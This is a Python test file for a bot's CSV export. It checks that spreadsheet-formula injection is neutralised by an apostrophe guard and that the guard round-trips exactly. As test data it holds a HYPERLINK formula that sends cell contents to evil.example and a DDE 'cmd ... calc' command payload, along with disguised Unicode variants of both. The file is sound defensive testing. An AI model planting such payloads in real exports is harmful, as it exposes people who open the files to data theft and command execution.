"""No cell of a written table is a formula, and each cell can be read back exactly."""

import csv
import io
import random
import unicodedata
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path

import pytest

from bot.cli import reports
from bot.domain.scope import Scope, ThreadKey
from bot.domain.setting import AuditEntry
from bot.domain.triage_case import TriageCase
from bot.domain.turn import Opinion
from bot.schemes.scheme import default
from bot.text import csv_cells
from bot.text.csv_cells import guard, remove_guard
from bot.triage.bulk.reader import open_source
from bot.triage.chat import corrections, present
from tests.support.deep import rounds

SIGNS = "=+-@\N{MINUS SIGN}"
#: What nobody sees in front of a sign, or what a spreadsheet drops there.
UNSEEN = [
    *(" ", "\t", "\n", "\r", "\r\n", "\x00", "\x0b", "\x1f", "\x7f", "\x85", "\xa0"),
    *("\xad", "\u034f", "\u061c", "\u115f", "\u180e", "\u2000", "\u200b", "\u200d"),
    *("\u200e", "\u2028", "\u202e", "\u2060", "\u2066", "\u2800", "\u3000", "\u3164"),
    *("\ufe0f", "\ufeff", "\uffa0", "\ufff9", "\U000e0020", "\U000e0100"),
]
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
PROGRAM = "cmd|' /C calc'!A0"

#: Ordinary texts, which have to stay as they are.
HONEST = [
    *("", "word", "a = b", "1-2", "a@b.example", "x+y", "'", "'quoted'", "it's"),
    *("(-1)", "Hello\n- one\n- two\n@bob: thanks", "a; b; c", "10:30", "–", "* item"),
    *("-5", "-0.25", "-1e-07", "-3,5", "12", "Grüße, 日本語 👩‍👩‍👧", "“=1+1”", "#1"),
]


def is_safe(cell: str) -> bool:
    """Return whether no spreadsheet takes `cell` for a formula: its first visible
    character is no operator, or it is a negative number."""
    seen = cell
    while seen and (
        seen[0] in "\u115f\u1160\u2800\u3164\uffa0"
        or unicodedata.category(seen[0])[0] in "CZ"
        or unicodedata.category(seen[0]) in ("Mn", "Me")
    ):
        seen = seen[1:]
    if unicodedata.normalize("NFKC", seen[:1])[:1] not in tuple(SIGNS):
        return True
    return cell.startswith("-") and cell[1:].replace(".", "").replace(",", "").isdigit()


@cache
def alike() -> list[str]:
    """Return what is a sign for whoever normalises, as Excel does in Japanese."""
    return [
        character
        # Beyond the first plane nothing is alike so far, and nothing beyond the second.
        for character in map(chr, range(0x80, rounds(0x10000, 0x20000)))
        if unicodedata.normalize("NFKC", character).strip()[:1] in tuple(SIGNS)
    ]


def test_what_begins_like_a_formula_is_none() -> None:
    rests = ("1+1", "SUM(A1)", PROGRAM, "", " x")
    befores = ("", *UNSEEN, "\n \u200b\r")
    for sign, rest, before in product((*SIGNS, *alike()), rests, befores):
        text = f"{before}{sign}{rest}"
        cell = guard(text)
        assert is_safe(cell) or cell == "-1", text
        assert cell.startswith("'"), text
        assert remove_guard(cell) == text


def test_every_sign_is_known() -> None:
    assert {"＝", "﹢", "＋", "－", "﹣", "＠", "﹫", "⁼", "⁺", "₋"} <= set(alike())


@pytest.mark.parametrize("text", HONEST)
def test_an_ordinary_text_is_as_it_was(text: str) -> None:
    assert guard(text) == text
    assert remove_guard(text) == text


@pytest.mark.parametrize("text", ["\tword", "\rword", "\t", "'\tword"])
def test_a_tab_or_return_in_front_is_guarded_by_itself(text: str) -> None:
    assert guard(text) == f"'{text}"
    assert remove_guard(f"'{text}") == text


@pytest.mark.parametrize("number", ["-1", "-1.5", "-0,5", "-1e-07", "-2E+9"])
def test_a_negative_number_stays_one(number: str) -> None:
    assert guard(number) == number
    # As soon as it is more than a number, it is a text.
    for text in (f"{number}+1", f" {number}", f"{number};", f"{number}\n"):
        assert guard(text) == f"'{text}"


def test_apostrophes_of_peoples_own_are_kept() -> None:
    for count in range(5):
        text = "'" * count + "=1+1"
        assert guard(text) == f"'{text}"
        assert remove_guard(guard(text)) == text
        assert remove_guard(guard(guard(text))) == guard(text)


@pytest.mark.parametrize("end", [";", "\t", "\n", "\r", "\r\n"])
@pytest.mark.parametrize("before", ["", " ", "\u200b", '"', '""', "\N{NO-BREAK SPACE}"])
def test_a_spreadsheet_that_is_set_to_semicolons_finds_none(
    end: str, before: str
) -> None:
    for text in (
        FORMULA,
        f"+{PROGRAM}",
        "@SUM(A1)",
        "-1+SUM(A1)",
        "\N{MINUS SIGN}N(A1)",
    ):
        cell = guard(f"Hello{end}{before}{text}")
        assert f"{end}'{before}{text}" in cell
        assert remove_guard(cell) == f"Hello{end}{before}{text}"
        line = csv_cells.record(["id", f"Hello{end}{before}{text}"])
        for separator in ",;\t":
            for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
                assert all(map(is_safe, (each.lstrip('" ') for each in row)))


@pytest.mark.parametrize("end", [";", "\t"])
def test_what_is_called_may_stand_behind_the_other_separator(end: str) -> None:
    text = f"Hello\n@{end}word|x"
    assert guard(text) == f"Hello\n'@{end}word|x"
    assert remove_guard(guard(text)) == text
    # Not beyond the line.
    assert guard(f"Hello\n@{end}word\nx|y") == f"Hello\n@{end}word\nx|y"


def runs_nothing(line: str) -> bool:
    """Return whether no cell of `line` is a call, or computed from other cells, where a
    semicolon or a tab separates cells."""
    return all(
        is_safe(cell) or not (cell.startswith("=") or set(cell) & set("(|"))
        for separator in ";\t"
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator)
        for cell in (each.lstrip('" ') for each in row)
    )


def mixtures(count: int) -> Iterator[str]:
    """Texts of signs, blanks, quotes and words, at random."""
    chance = random.Random(24)
    parts = [
        *(*SIGNS, *alike(), *UNSEEN, *HONEST, FORMULA, PROGRAM),
        *("'", "''", '"', ",", ";", "|", "-1", "(", "word"),
    ]
    for _ in range(count):
        text = "".join(chance.choices(parts, k=chance.randint(0, 6)))
        yield text + (chr(chance.randrange(0xD800)) if chance.random() < 0.2 else "")


def test_mixtures_are_safe_and_come_back() -> None:
    for text in mixtures(rounds(1_000, 100_000)):
        cell = guard(text)
        assert is_safe(cell) or csv_cells._NUMBER.fullmatch(cell), ascii(text)
        assert remove_guard(cell) == text, ascii(text)
        # What others guarded is read as that, and written as it was.
        assert guard(remove_guard(text)) == cell or remove_guard(text) != text
        bare = text.replace("\x00", "")
        row = [bare, "x", bare]
        line = csv_cells.record([text, "x", text])
        assert runs_nothing(csv_cells.record(["x", text])), ascii(text)
        [read] = csv.reader(io.StringIO(line, newline=""), strict=True)
        assert [remove_guard(each) for each in read] == row, ascii(text)


def test_lists_nothing_numbers_and_halves_of_characters() -> None:
    line = csv_cells.record([None, ["a", "b"], 1, -1.5, True, "a\ud83db", "\x00=1", ""])
    assert line == ',"a, b",1,-1.5,True,a\ufffdb,\'=1,\n'
    assert csv_cells.record([""]) == '""\n'
    assert csv_cells.record([["=1", "x"]]) == '"\'=1, x"\n'


@pytest.mark.parametrize(
    "text", ["a\rb", "a\nb", "a;b", "a|b", "a\tb", 'a"b', " a", "a "]
)
def test_what_another_reader_may_split_is_quoted(text: str) -> None:
    assert csv_cells.record(["x", text]).startswith('x,"')


# Every table that a command writes.

HERE = Scope("slack", "T1", "C5", "1.0")
POISON = f"＝{FORMULA[1:]}"


def formulas(text: str) -> list[str]:
    """Cells of a table that a spreadsheet would work out."""
    rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    return [cell for row in rows for cell in row if not is_safe(cell)]


@pytest.mark.parametrize("poison", [FORMULA, POISON, "\n\u200b@SUM(A1)", f"+{PROGRAM}"])
def test_no_report_holds_a_formula(poison: str) -> None:
    place = Scope(poison, poison, poison, poison)
    key = ThreadKey(poison, poison, poison, poison)
    entries = [AuditEntry(1, 1.0, place, poison, poison, poison, poison, poison)]
    opinions = [Opinion(key, poison, 1.0, True, poison, None, poison, poison)]
    case = TriageCase(
        *(1, HERE, "m", 1.0, "U1", poison, {"category": "bug", poison: poison}),
        corrected={"category": poison},
        corrected_by=poison,
        corrected_at=2.0,
        agreed_by=poison,
    )
    tables = [
        csv_cells.as_csv(reports.audit_rows(entries)),
        csv_cells.as_csv(reports.opinion_rows(opinions, texts=True)),
        corrections.as_csv([case]),
        present.as_csv([case], default(), {"U1": poison}),
        csv_cells.as_csv([{poison: poison, "list": [poison]}]),
    ]
    for table in tables:
        assert formulas(table) == []
        read = csv.reader(io.StringIO(table, newline=""), strict=True)
        assert poison in [remove_guard(cell) for row in read for cell in row]


def test_what_was_exported_is_read_as_it_was_said(tmp_path: Path) -> None:
    texts = [text for text in mixtures(rounds(300, 5_000)) if text.strip(" \x00\t\r\n")]
    file = tmp_path / "tickets.csv"
    said = [text.replace("\x00", "") for text in texts]
    names = ["id", "ticket", "=name"]
    rows = [
        csv_cells.record([number, *(text, text)]) for number, text in enumerate(said)
    ]
    with file.open("w", encoding="utf-8", newline="") as out:
        out.write(csv_cells.record(names) + "".join(rows))
    with open_source(str(file)) as source:
        assert source.columns == ("id", "ticket", "=name")
        assert [ticket.row["ticket"] for ticket in source.tickets()] == said
        assert [ticket.row["=name"] for ticket in source.tickets()] == said


def test_half_a_character_in_a_ticket_is_no_error(tmp_path: Path) -> None:
    file = tmp_path / "tickets.jsonl"
    lines = [
        '{"id": "\\ud83d", "ticket": "a \\uDE00 b"}',
        '{"id": 2, "ticket": "\\ud83d\\ude00"}',
    ]
    file.write_text("\n".join(lines))
    with open_source(str(file)) as source:
        first, second = source.tickets()
    assert dict(first.row) == {"id": "\ufffd", "ticket": "a \ufffd b"}
    assert second.text == "😀"
